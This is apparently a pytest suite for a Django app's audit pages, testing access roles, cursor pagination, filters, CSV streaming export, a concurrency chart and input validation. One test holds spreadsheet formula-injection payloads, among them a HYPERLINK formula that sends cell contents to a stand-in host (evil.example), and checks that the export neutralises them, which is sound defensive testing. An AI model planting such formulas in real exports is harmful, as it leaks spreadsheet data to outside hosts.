"""Audit pages: roles, history with filters and cursor pages, live now, CSV streaming, the chart, the log."""

import base64
import csv
import io
import random
import tracemalloc
from datetime import timedelta

import pytest
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from sessions_app import audit, usage_rollup
from sessions_app.models import AuditEntry, LiveSession, UsageDay, Utterance

from .helpers import started_session

pytestmark = pytest.mark.django_db


def calls(sim) -> dict:
    return sim.control("GET", "calls")["counts"]


def make_rows(account, count: int, *, prefix: str = "hist", **fields) -> list[LiveSession]:
    defaults = dict(account=account, project=account.projects.first(), user_id="u", protocol="rtmp", driver_type=1,
                    status="closed", close_reason="idle")
    defaults.update(fields)
    return LiveSession.objects.bulk_create(
        [LiveSession(cloud_session_id=f"{prefix}-{i}", **defaults) for i in range(count)], batch_size=5000)


def set_times(session: LiveSession, *, created: timezone.datetime, closed: timezone.datetime | None) -> None:
    LiveSession.objects.filter(pk=session.pk).update(created_at=created, closed_at=closed)


def audit_urls(account) -> list[str]:
    project, asset = account.projects.first(), account.assets.first()
    return [
        reverse("audit_home"), reverse("audit_log"),
        reverse("audit_accounts"), reverse("audit_projects"), reverse("audit_assets"),
        reverse("audit_account_history", args=[account.pk]), reverse("audit_account_live", args=[account.pk]),
        reverse("audit_project_history", args=[project.pk]), reverse("audit_project_live", args=[project.pk]),
        reverse("audit_asset_history", args=[asset.pk]), reverse("audit_asset_live", args=[asset.pk]),
        reverse("audit_account_export", args=[account.pk]),
    ]


# -- roles --------------------------------------------------------------------------------------

def test_operators_get_403_on_every_audit_page(sim, account, operator, client):
    client.force_login(operator)
    for url in audit_urls(account):
        assert client.get(url).status_code == 403, url
    assert ">Audit</a>" not in client.get(reverse("dashboard")).content.decode()


@pytest.mark.parametrize("who", ["auditor", "admin_user"])
def test_auditors_and_admins_see_every_audit_page(sim, account, who, client, request):
    client.force_login(request.getfixturevalue(who))
    for url in audit_urls(account):
        assert client.get(url).status_code == 200, url
    nav = client.get(reverse("audit_home")).content.decode()
    for name in (">Audit</a>", ">By account</a>", ">By project</a>", ">By asset</a>"):
        assert name in nav


def test_anonymous_is_sent_to_login(sim, account, client):
    response = client.get(reverse("audit_accounts"))
    assert response.status_code == 302 and reverse("login") in response["Location"]


def test_audit_pages_are_read_only(sim, account, auditor, client):
    client.force_login(auditor)
    assert client.post(reverse("audit_log")).status_code == 405
    assert client.post(reverse("audit_account_history", args=[account.pk])).status_code == 405


# -- history ------------------------------------------------------------------------------------

def test_history_pages_by_cursor_without_repeats(sim, account, auditor, client):
    make_rows(account, 120)
    client.force_login(auditor)
    url = reverse("audit_account_history", args=[account.pk])
    seen, pages, after = [], 0, None
    while True:
        page = audit.sessions_page(scope="account", obj=account, filters=audit.SessionFilters(), cursor=after)
        seen += [s.cloud_session_id for s in page.rows]
        pages += 1
        if not page.next_cursor:
            break
        html = client.get(url, {"after": page.next_cursor}).content.decode()
        assert page.rows[-1].cloud_session_id not in html
        after = page.next_cursor
    assert pages == 3 and len(seen) == len(set(seen)) == 120
    first = client.get(url).content.decode()
    assert 'rel="next"' in first and "Export CSV" in first and ">Live now</a>" in first and ">History</a>" in first


def test_history_shows_each_sessions_start_latency(sim, account, auditor, client):
    spoken, silent = make_rows(account, 2, prefix="lat")
    for number, start_ms in enumerate((700, 240, 410)):
        Utterance.objects.create(session=spoken, req_id=f"r{number}", kind="text", text="Hi.", start_ms=start_ms)
    client.force_login(auditor)
    html = client.get(reverse("audit_account_history", args=[account.pk])).content.decode()
    rows = {row.split("</a>", 1)[0].rsplit(">", 1)[1]: row for row in html.split("<tr>")[2:]}
    assert "410 / 700 ms" in rows["lat-0"]
    assert "ms" not in rows["lat-1"].split("</td>")[-2]


def test_a_mangled_cursor_shows_the_first_page(sim, account, auditor, client):
    make_rows(account, 3)
    client.force_login(auditor)
    response = client.get(reverse("audit_account_history", args=[account.pk]), {"after": "%%%not-a-cursor"})
    assert response.status_code == 200 and "hist-2" in response.content.decode()


def test_history_filters_and_totals(sim, account, operator, auditor, client):
    now = timezone.now()
    a, b = make_rows(account, 2, prefix="filt", created_by=operator)
    c, = make_rows(account, 1, prefix="other", protocol="trtc", close_reason="downstream exited")
    set_times(a, created=now - timedelta(minutes=30), closed=now - timedelta(minutes=20))
    set_times(b, created=now - timedelta(minutes=15), closed=now - timedelta(minutes=10))
    set_times(c, created=now - timedelta(days=3), closed=now - timedelta(days=3) + timedelta(minutes=4))

    totals = audit.sessions_totals(scope="account", obj=account, filters=audit.SessionFilters(creator="olivia"))
    assert totals.sessions == 2 and totals.session_minutes == pytest.approx(15, abs=0.2)

    client.force_login(auditor)
    url = reverse("audit_account_history", args=[account.pk])
    assert "other-0" not in client.get(url, {"creator": "olivia"}).content.decode()
    assert "filt-0" not in client.get(url, {"protocol": "trtc"}).content.decode()
    assert "other-0" in client.get(url, {"close_reason": "downstream"}).content.decode()
    since = (now - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")
    recent = client.get(url, {"since": since}).content.decode()
    assert "filt-1" in recent and "other-0" not in recent
    assert "filt-0" not in client.get(url, {"status": "started"}).content.decode()

    groups = client.get(reverse("audit_accounts")).content.decode()
    assert account.name in groups and "19.0" in groups  # 10 + 5 + 4 session-minutes in the last 30 days


def test_project_and_asset_history_only_show_their_own(sim, account, auditor, client):
    make_rows(account, 1, prefix="byproject")
    make_rows(account, 1, prefix="byasset", project=None, asset=account.assets.first())
    client.force_login(auditor)
    project_page = client.get(reverse("audit_project_history", args=[account.projects.first().pk])).content.decode()
    asset_page = client.get(reverse("audit_asset_history", args=[account.assets.first().pk])).content.decode()
    assert "byproject-0" in project_page and "byasset-0" not in project_page
    assert "byasset-0" in asset_page and "byproject-0" not in asset_page


# -- live now -----------------------------------------------------------------------------------

def test_live_now_lists_what_the_cloud_lists_and_caches_it(sim, account, operator, auditor, client):
    session = started_session(operator, account)
    client.force_login(auditor)
    url = reverse("audit_account_live", args=[account.pk])
    before = calls(sim).get("listsessionofuin", 0)
    page = client.get(url).content.decode()
    assert session.cloud_session_id in page and "olivia" in page
    assert reverse("session_detail", args=[session.pk]) in page
    client.get(url)
    assert calls(sim)["listsessionofuin"] == before + 1, "a second look within seconds is served from cache"

    project_page = client.get(reverse("audit_project_live", args=[account.projects.first().pk])).content.decode()
    assert session.cloud_session_id in project_page
    asset_page = client.get(reverse("audit_asset_live", args=[account.assets.first().pk])).content.decode()
    assert session.cloud_session_id not in asset_page


def test_live_now_shows_a_cloud_error(sim, account, auditor, client):
    sim.control("POST", "faults", json={"endpoint": "listsessionofprojectid", "code": 100005, "count": 1})
    client.force_login(auditor)
    page = client.get(reverse("audit_project_live", args=[account.projects.first().pk])).content.decode()
    assert 'role="alert"' in page and "100005" in page


# -- CSV ----------------------------------------------------------------------------------------

def test_csv_export_has_the_filtered_rows(sim, account, operator, auditor, client):
    make_rows(account, 3, prefix="csv", created_by=operator)
    make_rows(account, 2, prefix="nocsv", protocol="trtc")
    client.force_login(auditor)
    response = client.get(reverse("audit_account_export", args=[account.pk]), {"protocol": "rtmp"})
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r["SessionId"] for r in rows) == ["csv-0", "csv-1", "csv-2"]
    assert rows[0]["Creator"] == "olivia" and rows[0]["UIN"] == account.uin and rows[0]["Close reason"] == "idle"


def test_csv_export_carries_each_sessions_start_latency_and_video_figures(sim, account, auditor, client):
    spoken, silent = make_rows(account, 2, prefix="timed", first_frame_ms=850, player_stalls=2,
                               player_stalled_ms=4100)
    for number, start_ms in enumerate((510, 260, None, 330)):
        Utterance.objects.create(session=spoken, req_id=f"r{number}", kind="text", text="Hi.", start_ms=start_ms)
    client.force_login(auditor)
    response = client.get(reverse("audit_account_export", args=[account.pk]))
    rows = {r["SessionId"]: r for r in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}
    timed = rows[spoken.cloud_session_id]
    assert (timed["Spoken utterances"], timed["Start latency p50 (ms)"], timed["Start latency p95 (ms)"]) == \
        ("3", "330", "510")
    assert (timed["First frame (ms)"], timed["Stalls"], timed["Stalled (ms)"]) == ("850", "2", "4100")
    untimed = rows[silent.cloud_session_id]
    assert (untimed["Spoken utterances"], untimed["Start latency p50 (ms)"]) == ("0", "")


def _export_peak(client, account) -> tuple[int, int]:
    """Lines and the peak of memory allocated while the whole export streamed by."""
    response = client.get(reverse("audit_account_export", args=[account.pk]))
    assert response.streaming
    tracemalloc.start()
    try:
        lines = sum(piece.count(b"\n") for piece in response.streaming_content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return lines, peak


def test_csv_export_streams_in_memory_that_does_not_grow_with_the_rows(sim, account, auditor, client):
    # Both sizes span more than one database chunk; the larger has four times the rows. An export
    # that held its rows would need about four times the memory for it, one that held its text
    # about one and a half times (the text is smaller than the rows of a chunk); a streaming one
    # needs the same.
    small = 2 * audit.DB_CHUNK_ROWS
    make_rows(account, small, prefix="bulk-session-with-a-long-enough-id")
    client.force_login(auditor)
    # Untraced first: what only the first export allocates (query compilation, lazy imports) would
    # count against the small size alone and flatter the comparison.
    b"".join(client.get(reverse("audit_account_export", args=[account.pk])).streaming_content)
    lines, small_peak = _export_peak(client, account)
    assert lines == small + 1

    make_rows(account, 3 * small, prefix="more-bulk-session-with-a-long-enough-id")
    lines, large_peak = _export_peak(client, account)
    assert lines == 4 * small + 1
    assert large_peak < 1.25 * small_peak, f"peak {small_peak} bytes for {small} rows, {large_peak} for {4 * small}"


def test_totals_add_the_daily_rollup_to_the_sessions_it_does_not_hold(sim, account, operator):
    """Whole days come from UsageDay, the rest from the sessions: the same figures either way,
    whatever the range's edges, including sessions whose close here is not their close in the
    cloud (UsageDay holds billed seconds, the audit pages show lifetimes here)."""
    for tz in ("UTC", "Asia/Shanghai"):
        with override_settings(TIME_ZONE=tz):
            LiveSession.objects.all().delete()
            UsageDay.objects.all().delete()
            now = timezone.now()
            rows = make_rows(account, 40, prefix=f"roll-{tz}", created_by=operator)
            for i, row in enumerate(rows):
                created = now - timedelta(days=i % 9, hours=i * 5 % 24, minutes=i * 7)
                closed = created + timedelta(minutes=5 + i)
                cloud = closed + timedelta(minutes=i % 3)  # confirmed a little later, now and then
                if i % 10 == 3:
                    closed = None  # still open here, although the cloud confirmed it closed
                LiveSession.objects.filter(pk=row.pk).update(
                    created_at=created, closed_at=closed, cloud_closed_at=None if i % 7 == 0 else cloud,
                    created_by=None if i % 4 == 0 else operator)
            assert usage_rollup.usage_roll_up(now=now, max_batches=None) > 20
            local = timezone.localtime(now)
            ranges = [
                {}, {"since": now - timedelta(days=4, hours=3)},
                {"until": now - timedelta(days=2, minutes=17)},
                {"since": now - timedelta(days=6, hours=1), "until": now - timedelta(days=1, hours=2)},
                {"since": local.replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=5)},
                {"since": now - timedelta(hours=3), "until": now - timedelta(hours=1)},
                {"creator": "olivia"}, {"creator": "olivia", "since": now - timedelta(days=3, hours=5)},
            ]
            for fields in ranges:
                filters = audit.SessionFilters(**fields)
                expected = [audit.session_duration(s, timezone.now()).total_seconds()
                            for s in audit.sessions_filtered(scope="account", obj=account, filters=filters)]
                totals = audit.sessions_totals(scope="account", obj=account, filters=filters)
                assert totals.sessions == len(expected), (tz, fields)
                assert totals.session_minutes == pytest.approx(sum(expected) / 60, abs=0.15), (tz, fields)
                [(_, group)] = audit.group_totals(scope="account", filters=filters)
                assert group == totals, (tz, fields)


def test_filters_only_the_sessions_can_answer_read_the_last_week_unless_from_is_set(sim, account, auditor, client):
    now = timezone.now()
    recent, old = make_rows(account, 2, prefix="reason", close_reason="downstream exited")
    set_times(recent, created=now - timedelta(days=3), closed=now - timedelta(days=3) + timedelta(minutes=4))
    set_times(old, created=now - timedelta(days=10), closed=now - timedelta(days=10) + timedelta(minutes=6))
    client.force_login(auditor)
    url = reverse("audit_account_history", args=[account.pk])

    response = client.get(url, {"close_reason": "downstream"})
    page = response.content.decode()
    assert "reason-0" in page and "reason-1" not in page and 'id="bounded-since"' in page
    assert response.context["totals"] == audit.Totals(sessions=1, session_minutes=4.0)
    export = b"".join(client.get(reverse("audit_account_export", args=[account.pk]),
                                 {"close_reason": "downstream"}).streaming_content).decode()
    assert "reason-0" in export and "reason-1" not in export

    since = (now - timedelta(days=20)).strftime("%Y-%m-%dT%H:%M")
    response = client.get(url, {"close_reason": "downstream", "since": since})
    page = response.content.decode()
    assert "reason-0" in page and "reason-1" in page and 'id="bounded-since"' not in page
    assert response.context["totals"] == audit.Totals(sessions=2, session_minutes=10.0)

    unfiltered = client.get(url).content.decode()
    assert "reason-1" in unfiltered and 'id="bounded-since"' not in unfiltered
    groups = client.get(reverse("audit_accounts"), {"close_reason": "downstream"})
    assert groups.context["filters"].since == pytest.approx(now - audit.SCANNED_DEFAULT_RANGE, abs=timedelta(minutes=1))


# -- concurrency chart --------------------------------------------------------------------------

def test_concurrency_chart_counts_overlapping_sessions_against_the_limit(sim, account, auditor, client):
    account.concurrency_limit = 2
    account.save()
    since = timezone.now().replace(microsecond=0) - timedelta(hours=2)
    a, b, c = make_rows(account, 3, prefix="conc")
    set_times(a, created=since + timedelta(minutes=10), closed=since + timedelta(minutes=50))
    set_times(b, created=since + timedelta(minutes=20), closed=since + timedelta(minutes=40))
    set_times(c, created=since + timedelta(minutes=70), closed=since + timedelta(minutes=80))

    series = audit.account_concurrency(account=account, since=since, until=since + timedelta(hours=2), buckets=12)
    assert series.values == [0, 1, 2, 2, 1, 0, 0, 1, 0, 0, 0, 0]
    assert series.peak == 2 and series.limit == 2

    client.force_login(auditor)
    page = client.get(reverse("audit_account_history", args=[account.pk]), {
        "since": since.strftime("%Y-%m-%dT%H:%M"), "until": (since + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"),
    }).content.decode()
    assert "Peak 2 open at once against a purchased limit of 2" in page
    assert 'id="concurrency-data"' in page and "concurrency-chart.js" in page


def test_concurrency_chart_counts_sessions_open_across_the_window_edges(sim, account):
    since = timezone.now().replace(microsecond=0) - timedelta(hours=2)
    times = {
        "long, closed inside": (since - timedelta(days=3), since + timedelta(minutes=25)),
        "recent, closed inside": (since - timedelta(hours=2), since + timedelta(minutes=15)),
        "open for days": (since - timedelta(days=2), None),
        "long, closed before": (since - timedelta(days=3), since - timedelta(hours=1)),
        "recent, closed before": (since - timedelta(hours=10), since - timedelta(minutes=10)),
        "closed at the start": (since - timedelta(hours=1), since),
        "running past the end": (since + timedelta(minutes=90), since + timedelta(hours=3)),
    }
    for session, (created, closed) in zip(make_rows(account, len(times), prefix="edge"), times.values()):
        set_times(session, created=created, closed=closed)
    series = audit.account_concurrency(account=account, since=since, until=since + timedelta(hours=2), buckets=12)
    assert series.values == [3, 3, 2, 1, 1, 1, 1, 1, 1, 2, 2, 2]


def test_concurrency_chart_is_the_count_of_sessions_overlapping_each_slice(sim, account):
    """Against counting every slice directly, for sessions of every length around the window."""
    shuffle = random.Random(17)
    now = timezone.now().replace(microsecond=0)
    since, until, buckets = now - timedelta(days=2), now - timedelta(days=1, hours=18), 24
    spans = []
    for session in make_rows(account, 300, prefix="rand"):
        created = since + timedelta(seconds=shuffle.randint(-4 * 86400, 8 * 3600))
        lasted = timedelta(seconds=shuffle.choice([60, 900, 3600, 30000, 200000]) * shuffle.uniform(0.5, 1.5) // 1)
        closed = None if shuffle.random() < 0.05 else created + lasted
        set_times(session, created=created, closed=closed)
        spans.append((created, closed or now))
    series = audit.account_concurrency(account=account, since=since, until=until, buckets=buckets, now=now)
    width = (until - since) / buckets
    expected = [sum(1 for created, end in spans if created < since + (i + 1) * width and end > since + i * width)
                for i in range(buckets)]
    assert series.values == expected and max(expected) > 0


def test_a_long_range_charts_its_last_week(sim, account, auditor, client):
    client.force_login(auditor)
    until = timezone.now().replace(second=0, microsecond=0)
    response = client.get(reverse("audit_account_history", args=[account.pk]), {
        "since": (until - timedelta(days=30)).strftime("%Y-%m-%dT%H:%M"), "until": until.strftime("%Y-%m-%dT%H:%M")})
    chart = response.context["chart"]
    assert chart.until == until and chart.since == until - timedelta(days=7)


# -- audit log ----------------------------------------------------------------------------------

def test_audit_log_filters_and_links_each_session_to_its_transcript(sim, account, operator, auditor, client):
    session = started_session(operator, account)
    client.force_login(auditor)
    page = client.get(reverse("audit_log"), {"action": "start"}).content.decode()
    assert reverse("session_detail", args=[session.pk]) in page and "olivia" in page
    assert "<td>create_from_project</td>" not in page
    assert "create_from_project" in client.get(reverse("audit_log"), {"actor": "olivia"}).content.decode()
    assert session.cloud_session_id not in client.get(reverse("audit_log"), {"ok": "0"}).content.decode()


def test_audit_log_names_every_action_an_entry_may_hold(sim, account, auditor, client):
    client.force_login(auditor)
    page = client.get(reverse("audit_log")).content.decode()
    assert not AuditEntry.objects.filter(action="adopt").exists()
    assert "<code>adopt</code>" in page and "<code>kiosk_open</code>" in page


def test_audit_log_pages_by_cursor(sim, account, auditor, client):
    AuditEntry.objects.bulk_create([AuditEntry(action="note", detail=f"entry {i}") for i in range(60)])
    first = audit.audit_entries_page(filters=audit.AuditFilters(action="note"))
    second = audit.audit_entries_page(filters=audit.AuditFilters(action="note"), cursor=first.next_cursor)
    assert len(first.rows) == 50 and len(second.rows) == 10 and second.next_cursor is None
    assert not {e.pk for e in first.rows} & {e.pk for e in second.rows}


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1)",
                                   "\tcmd", "\rcmd"])
def test_csv_cells_that_a_spreadsheet_would_run_are_text(sim, account, auditor, client, value):
    make_rows(account, 1, prefix="formula", user_id=value, close_reason=value, error_message=value)
    client.force_login(auditor)
    response = client.get(reverse("audit_account_export", args=[account.pk]))
    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert row["UserId"] == row["Close reason"] == row["Error"] == f"'{value}"
    assert row["SessionId"] == "formula-0" and row["Status"] == "closed"


# -- filters and ids that are not what they must be ---------------------------------------------

@pytest.mark.parametrize("query", [{"until": "0001-01-01T00:00"}, {"since": "0001-01-01T00:00"},
                                   {"until": "9999-12-31T23:59"}, {"since": "２０２６-01-01T00:00"},
                                   {"since": "2026-02-30T00:00"}, {"until": "yesterday"}])
def test_filters_outside_the_safe_range_are_a_400_that_says_why(sim, account, auditor, client, query):
    make_rows(account, 2, prefix="edge")
    client.force_login(auditor)
    for name in ("audit_account_history", "audit_project_history"):
        pk = account.pk if name == "audit_account_history" else account.projects.first().pk
        response = client.get(reverse(name, args=[pk]), query)
        assert response.status_code == 400, name
        assert 'class="error" role="alert"' in response.content.decode()
    assert client.get(reverse("audit_accounts"), query).status_code == 400
    assert client.get(reverse("audit_log"), query).status_code == 400
    export = client.get(reverse("audit_account_export", args=[account.pk]), query)
    assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")


def test_filters_at_the_edges_of_the_safe_range_work(sim, account, auditor, client):
    make_rows(account, 2, prefix="edge")
    client.force_login(auditor)
    response = client.get(reverse("audit_account_history", args=[account.pk]),
                          {"since": "1970-01-01T00:00", "until": "9000-01-01T00:00"})
    assert response.status_code == 200
    assert response.context["totals"].sessions == 2


@pytest.mark.parametrize("pk", [2**63, 2**64 + 5, 10**40])
def test_audit_ids_beyond_the_database_range_are_404(sim, account, auditor, client, pk):
    client.force_login(auditor)
    for path in (f"/audit/accounts/{pk}/", f"/audit/projects/{pk}/live/", f"/audit/assets/{pk}/export.csv"):
        assert client.get(path).status_code == 404, path


def test_a_cursor_with_an_id_out_of_range_shows_the_first_page(sim, account, auditor, client):
    make_rows(account, 3, prefix="cur")
    client.force_login(auditor)
    for pk in (str(2**63), "٣", "²"):
        raw = f"{timezone.now().isoformat()}|{pk}"
        forged = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
        assert audit.cursor_decode(forged) is None
        response = client.get(reverse("audit_account_history", args=[account.pk]), {"after": forged})
        assert response.status_code == 200 and len(response.context["rows"]) == 3


@pytest.mark.parametrize("value", ["٣", "²", str(2**63), "1.0"])
def test_the_log_filter_takes_an_account_by_its_id_only(sim, account, auditor, client, value):
    client.force_login(auditor)
    response = client.get(reverse("audit_log"), {"account": value})
    assert response.status_code == 400
    assert "Select a valid choice." in response.content.decode()
    assert client.get(reverse("audit_log"), {"account": str(account.pk)}).status_code == 200
